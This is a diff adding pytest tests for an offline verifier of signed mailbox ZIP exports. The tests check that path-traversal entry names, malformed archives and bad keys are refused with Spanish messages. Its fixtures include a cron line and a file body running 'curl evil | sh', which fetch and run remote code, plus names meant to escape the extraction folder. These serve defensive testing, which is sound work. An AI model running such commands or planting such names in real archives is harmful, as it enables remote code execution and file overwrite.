@@ -51,11 +51,13 @@ def refused(path: Path, tmp_path: Path, capsys: Any, *messages: str) -> str:
     return out
 
 
-def add_listed(path: Path, name: str, data: bytes) -> None:
+def add_listed(path: Path, name: str, data: bytes, *, resign: bool = False) -> None:
     """Add a file and list it in the manifest with its own hash, as a forger would."""
     files, manifest = read(path)
     files[name] = data
     manifest["files"][name] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
+    if resign:
+        manifest["signature"] = keys.current_key().sign(offline.signed_bytes(manifest))
     write(path, files, manifest)
 
 
@@ -266,3 +268,104 @@ def test_the_check_runs_from_a_bare_copy_of_four_files(mailbox, tmp_path):
     )
     assert result.returncode == 0, result.stdout + result.stderr
     assert "ÍNTEGRA" in result.stdout
+
+
+UNSAFE_NAMES = [
+    "../../.bashrc",
+    "/etc/cron.d/x",
+    "notificaciones/../../../.profile",
+    "notificaciones\\..\\..\\x.bat",
+    "C:/Users/Public/x.bat",
+    "notificaciones//x.pdf",
+]
+
+
+@pytest.mark.parametrize("name", UNSAFE_NAMES)
+def test_a_name_that_could_land_outside_the_folder_is_refused(mailbox, tmp_path, capsys, name):
+    """Listed in a manifest the agency signed, even: a ZIP tool would write it elsewhere."""
+    path = export(mailbox, tmp_path)
+    add_listed(path, name, b"* * * * * root curl evil | sh\n", resign=True)
+    refused(
+        path,
+        tmp_path,
+        capsys,
+        f"{name}: nombre de archivo no permitido (al extraerlo podría quedar fuera de su carpeta)",
+    )
+
+
+def test_an_unlisted_file_with_such_a_name_is_refused(mailbox, tmp_path, capsys):
+    path = export(mailbox, tmp_path)
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.writestr("../../.bashrc", b"curl evil | sh\n")
+    refused(
+        path,
+        tmp_path,
+        capsys,
+        "../../.bashrc: nombre de archivo no permitido (al extraerlo podría quedar fuera de su "
+        "carpeta)",
+    )
+
+
+def manifest_replaced(path: Path, raw: bytes) -> None:
+    files, _manifest = read(path)
+    files["manifest.json"] = raw
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, data in files.items():
+            archive.writestr(name, data)
+
+
+def a_fraction_in_an_entry(files: dict[str, bytes], manifest: dict[str, Any]) -> None:
+    """Canonical JSON has no fractions; a JSON reader would take it, and choke on it later."""
+    entry = manifest["entries"][0]
+    entry["canonical"] = entry["canonical"].replace('"seq":', '"x":0.5,"seq":')
+    entry["hash"] = hashlib.sha256(entry["canonical"].encode()).hexdigest()
+
+
+@pytest.mark.parametrize(
+    ("damage", "status", "message"),
+    [
+        (lambda path: path.write_bytes(b"PK not a zip"), 2, "no es un ZIP válido"),
+        (lambda path: manifest_replaced(path, b"{no es json"), 2, "manifest.json no es JSON"),
+        (lambda path: manifest_replaced(path, b"[]"), 2, "manifest.json no es un objeto JSON"),
+        (
+            lambda path: manifest_replaced(path, b'{"format": "x", "format": "buzon-export/2"}'),
+            2,
+            "una clave aparece dos veces",
+        ),
+        (
+            lambda path: rewrite(path, lambda files, m: m.update(entries="todas"), resign=True),
+            1,
+            "el manifiesto no tiene la forma esperada (en manifiesto.entries)",
+        ),
+        (
+            lambda path: rewrite(path, lambda files, m: m["files"].clear(), resign=True),
+            1,
+            "archivo añadido, no figura en el manifiesto",
+        ),
+        (
+            lambda path: rewrite(path, a_fraction_in_an_entry, resign=True),
+            1,
+            "su contenido no corresponde a su huella (alterado)",
+        ),
+    ],
+)
+def test_a_damaged_zip_is_refused_in_spanish_without_a_traceback(
+    mailbox, tmp_path, capsys, damage, status, message
+):
+    path = export(mailbox, tmp_path)
+    damage(path)
+    got, out = verdict(path, tmp_path, capsys)
+    assert got == status, out
+    assert message in out
+    assert "ÍNTEGRA" not in out
+
+
+def test_a_key_that_is_not_one_is_bad_input(mailbox, tmp_path, capsys):
+    path = export(mailbox, tmp_path)
+    not_a_key = tmp_path / "agencia.pub.txt"
+    not_a_key.write_text("hola", encoding="utf-8")
+    assert offline.main([str(path), "--clave", str(not_a_key)]) == 2
+    assert (
+        f"No se pudo leer la clave {not_a_key}: no es una clave pública Ed25519 (PEM)"
+        in capsys.readouterr().err
+    )
